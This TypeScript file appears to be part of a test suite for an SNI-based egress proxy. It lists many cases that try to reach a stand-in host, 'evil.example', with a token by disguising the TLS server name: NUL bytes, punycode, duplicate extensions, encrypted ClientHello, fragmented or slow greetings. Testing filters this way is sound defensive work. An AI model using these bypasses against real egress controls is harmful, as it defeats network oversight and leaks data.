import { type Attack, cdn4, cdn6, curl, evil4, pin, py } from './attack.js';

interface Hello {
  /** Names of the server_name extension, in Latin-1; TOKEN stands for the token. */
  readonly names?: readonly string[];
  /** A second server_name extension. */
  readonly again?: readonly string[];
  /** The type of the names; 0 is a host's. */
  readonly type?: number;
  /** Bytes of padding before the names. */
  readonly pad?: number;
  /** With the token in an encrypted_client_hello extension. */
  readonly ech?: true;
  /** Bytes before the greeting, in hexadecimal. */
  readonly before?: string;
  /** Seconds between pieces of 40 bytes. */
  readonly drip?: number;
}

// A foreign name behind a listed one is not tried: every TLS library that we know believes the first name, or none.
const foreign = 'TOKEN.evil.example';

/** A greeting by hand to a shared address, where `cdn.example` is listed. */
const hello = (name: string, options: Hello): Attack => ({
  name,
  script: (t) => py('hello', cdn4, 443, t, JSON.stringify(options)),
});

/** Connections to port 443: the name in the greeting decides, or there is none to decide. */
export const byTls: readonly Attack[] = [
  {
    name: 'a listed name pinned to a foreign address, HTTPS',
    script: (t) => curl(`https://allowed.example/${t}`, pin('allowed.example', 443, evil4)),
  },
  {
    name: 'a foreign SNI at a shared address',
    script: (t) =>
      `${curl('https://cdn.example/')}; ${curl(`https://evil.example/${t}`, pin('evil.example', 443, cdn4))}`,
  },
  {
    name: 'a foreign SNI at a shared address over IPv6',
    script: (t) =>
      `${curl('https://cdn.example/', '-6')}; ${curl(`https://evil.example/${t}`, pin('evil.example', 443, cdn6))}`,
    ipv6: true,
  },
  {
    name: 'TLS without SNI at a shared address',
    script: (t) => `${curl('https://cdn.example/')}; ${py('tls', cdn4, 443, t, '')}`,
  },
  { name: 'TLS with an address as its name', script: (t) => curl(`https://${cdn4}/${t}`) },
  {
    name: 'a listed SNI with something glued to it',
    script: (t) => py('tls', cdn4, 443, t, 'allowed.example.evil.example'),
  },
  {
    name: 'a listed SNI between others',
    script: (t) => py('tls', cdn4, 443, t, 'x.allowed.example.evil.example'),
  },
  { name: 'a foreign SNI in capitals', script: (t) => py('tls', cdn4, 443, t, 'EVIL.EXAMPLE') },
  {
    name: 'no TLS on port 443 of a shared address',
    script: (t) => `${curl('https://cdn.example/')}; ${py('tcp', cdn4, 443, t)}`,
  },
  { name: 'TLS in many small pieces', script: (t) => py('tls_pieces', evil4, 443, t, 'evil.example') },
  {
    name: 'a greeting over many TLS records',
    script: (t) => py('tls_records', evil4, 443, t, 'evil.example'),
  },
  { name: 'the greeting of SSL 2', script: (t) => py('sslv2', cdn4, 443, t) },
  hello('a foreign SNI in a greeting by hand', { names: [foreign] }),
  hello('an SNI with a dot behind it', { names: [`${foreign}.`] }),
  hello('an SNI with NUL behind a listed name', { names: [`cdn.example\0.${foreign}`] }),
  hello('an SNI with NUL before a listed name', { names: [`${foreign}\0cdn.example`] }),
  hello('an SNI with NUL before a listed suffix', { names: [`${foreign}\0.wide.example`] }),
  hello('an SNI with a space before a listed suffix', { names: [`${foreign} .wide.example`] }),
  hello('an SNI with a slash before a listed suffix', { names: [`${foreign}/.wide.example`] }),
  hello('an SNI with a line end in it', { names: [`cdn.example\n${foreign}`] }),
  hello('an SNI with a space behind a listed name', { names: [`cdn.example ${foreign}`] }),
  hello('an SNI that is not ASCII', { names: [`${foreign}\xe4`] }),
  hello('an SNI in punycode', { names: ['xn--TOKEN-evil.example'] }),
  hello('an SNI that is an address with the token', { names: ['198.18.0.66-TOKEN-evil'] }),
  hello('two names in one SNI, the foreign one first', { names: [foreign, 'cdn.example'] }),
  hello('two SNI extensions, the foreign one first', { names: [foreign], again: ['cdn.example'] }),
  hello('an empty SNI', { names: [''], again: [foreign] }),
  hello('a greeting that comes slowly', { names: [foreign], drip: 0.1 }),
  hello('a greeting larger than the proxy reads', { names: [foreign], pad: 16_000 }),
  hello('a warning before the greeting', { names: [foreign], before: '15030100020100' }),
  hello('a change of cipher before the greeting', { names: [foreign], before: '140301000101' }),
  hello('an empty record before the greeting', { names: [foreign], before: '1603010000' }),
  hello('an encrypted greeting behind a foreign outer name', { names: ['public.evil.example'], ech: true }),
  hello('an encrypted greeting without an outer name', { ech: true }),
  {
    name: "the source ports of the proxy's connections that a server has reset",
    script: (t) => `getent hosts cdn.example; ${py('used_proxy_port', cdn4, 443, t)}`,
    alone: true,
  },
];
